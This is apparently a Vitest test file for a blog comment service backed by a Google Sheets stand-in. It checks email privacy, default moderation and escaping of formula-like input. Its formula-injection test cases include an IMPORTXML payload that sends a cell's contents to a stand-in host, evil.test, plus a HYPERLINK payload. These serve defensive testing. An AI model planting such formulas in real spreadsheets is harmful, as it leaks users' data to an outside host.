// The public Comments sheet never holds an email, comments can be held for moderation,
// and formula-like values are stored as text. Over HTTP, as a visitor (values.get) would read them.
import { afterEach, describe, expect, it } from "vitest";
import { LOCAL_API_KEY, LOCAL_SPREADSHEET_ID } from "@marketing/contracts";
import { asSheetText, displayedValue } from "../src/sheets";
import {
  allSubmissions,
  postText,
  startTestServices,
  type TestServices,
} from "./start-test-services";

let running: TestServices[] = [];
const start = async (...args: Parameters<typeof startTestServices>) => {
  const services = await startTestServices(...args);
  running.push(services);
  return services;
};
afterEach(async () => {
  await Promise.all(running.map((services) => services.stop()));
  running = [];
});

const comment = (overrides: Record<string, string> = {}) => ({
  type: "blog_comment",
  postSlug: "energy-audit-data-first",
  id: `cmt-test-${Math.random().toString(36).slice(2)}`,
  name: "Grace Hopper",
  email: "grace.private@example.com",
  message: "Useful checklist, thank you.",
  date: "2025-03-14T10:00:00.000Z",
  parentId: "",
  ...overrides,
});

const values = async (services: TestServices, range: string) => {
  const url = `${services.url}/v4/spreadsheets/${LOCAL_SPREADSHEET_ID}/values/${encodeURIComponent(range)}?key=${LOCAL_API_KEY}`;
  const res = await fetch(url);
  expect(res.status).toBe(200);
  return res.text();
};
const rowOf = async (services: TestServices, id: string) =>
  (
    (JSON.parse(await values(services, "Comments!A:H")) as { values: string[][] }).values ?? []
  ).find((row) => row[1] === id);

describe("a commenter's email", () => {
  it("is kept by the services but never answered by values.get, whatever the range", async () => {
    const services = await start();
    const body = comment();
    expect((await postText(`${services.url}/comments`, body)).status).toBe(201);
    for (const range of ["Comments", "Comments!A:H", "Comments!A:ZZ", "Comments!D:D", "A:Z"]) {
      const text = await values(services, range);
      expect(text).not.toContain("grace.private");
    }
    const [stored] = (await allSubmissions(services.url, "?kind=comment")) as {
      receivedAt: string;
    }[];
    expect(await rowOf(services, body.id)).toEqual([
      body.postSlug,
      body.id,
      body.name,
      "",
      body.message,
      stored?.receivedAt,
      "",
      "TRUE",
    ]);
    // The owner still has it, in the store only GET /submissions (no CORS) shows.
    expect(JSON.stringify(await allSubmissions(services.url, "?kind=comment"))).toContain(
      "grace.private@example.com",
    );
  });

  it("is not in the fixture comments either: the Comments sheet's column D is blank", async () => {
    const services = await start();
    const rows = (JSON.parse(await values(services, "Comments!D:D")) as { values?: string[][] })
      .values;
    expect(rows).toEqual([["unused"]]);
  });
});

describe("moderation", () => {
  it("holds new comments by default (FALSE in column H), also after a restart", async () => {
    const services = await start({ moderation: undefined });
    const body = comment();
    const res = await postText(`${services.url}/comments`, body);
    expect(await res.json()).toEqual({ ok: true, id: body.id, approved: false });
    // A retried post gets the same answer and no second row.
    const again = await postText(`${services.url}/comments`, body);
    expect(await again.json()).toEqual({ ok: true, id: body.id, approved: false });
    expect((await rowOf(services, body.id))?.[7]).toBe("FALSE");
    await services.close();
    const restarted = await start({ dataDir: services.dataDir, moderation: false });
    expect((await rowOf(restarted, body.id))?.[7]).toBe("FALSE");
  });

  it("with SERVICES_MODERATION=0, approves at once: the answer says so and column H is TRUE", async () => {
    const previous = process.env.SERVICES_MODERATION;
    process.env.SERVICES_MODERATION = "0";
    try {
      await start({ moderation: undefined });
    } finally {
      if (previous === undefined) delete process.env.SERVICES_MODERATION;
      else process.env.SERVICES_MODERATION = previous;
    }
    const services = running.at(-1)!;
    const body = comment();
    const res = await postText(`${services.url}/comments`, body);
    expect(await res.json()).toEqual({ ok: true, id: body.id, approved: true });
    expect((await rowOf(services, body.id))?.[7]).toBe("TRUE");
  });
});

describe("formula-like values", () => {
  it.each([
    ["a formula as the name", { name: '=IMPORTXML("https://evil.test/?"&A2,"//a")' }],
    ["a formula as the message", { message: '=HYPERLINK("https://evil.test","click")' }],
    ["a leading +", { message: "+1 for this post" }],
    ["a leading -", { message: "-- great read" }],
    ["a leading @", { name: "@grace" }],
    ["a leading apostrophe", { message: "'tis the season" }],
  ])("reads %s back as the literal text that was posted", async (_label, overrides) => {
    const services = await start();
    const body = comment(overrides);
    await postText(`${services.url}/comments`, body);
    const row = await rowOf(services, body.id);
    expect(row?.[2]).toBe(body.name);
    expect(row?.[4]).toBe(body.message);
  });
});

describe("the stand-in's cells (Sheets' USER_ENTERED)", () => {
  it("reads an entered formula as a formula and text behind an apostrophe without it", () => {
    expect(displayedValue("=IMPORTXML(A1)")).toBe("#ERROR!");
    expect(displayedValue("-2")).toBe("-2");
    expect(displayedValue(asSheetText("=IMPORTXML(A1)"))).toBe("=IMPORTXML(A1)");
    expect(asSheetText("plain")).toBe("plain");
  });
});
